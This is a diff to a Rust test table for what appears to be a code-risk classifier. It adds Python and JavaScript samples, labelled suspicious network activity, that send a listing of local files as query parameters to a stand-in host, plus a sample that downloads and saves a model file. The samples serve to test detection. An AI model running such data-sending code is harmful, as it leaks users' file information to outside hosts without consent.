@@ -4402,6 +4402,29 @@ fn requests_that_send_nothing_and_verified_downloads() {
             Dangerous,
             "exfiltration",
         ),
+        // Query parameters built at run time are sent, as a body is.
+        (
+            Py,
+            "import os, requests\nrequests.get('https://c.example.dev/q', params={'files': ','.join(os.listdir('.'))})\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Js,
+            "const axios = require('axios');\nconst fs = require('fs');\n\
+             axios.get('https://c.example.dev/q', { params: { f: fs.readdirSync('.').join(',') } });\n",
+            Suspicious,
+            "network",
+        ),
+        // A download saved through `stream.pipeline` is stored.
+        (
+            Js,
+            "import { createWriteStream } from 'node:fs';\nimport { pipeline } from 'node:stream/promises';\n\
+             const res = await fetch('https://d.example.dev/model.bin');\n\
+             await pipeline(res.body, createWriteStream('models/model.bin'));\n",
+            Suspicious,
+            "network",
+        ),
     ];
     check_all(rows);
 }
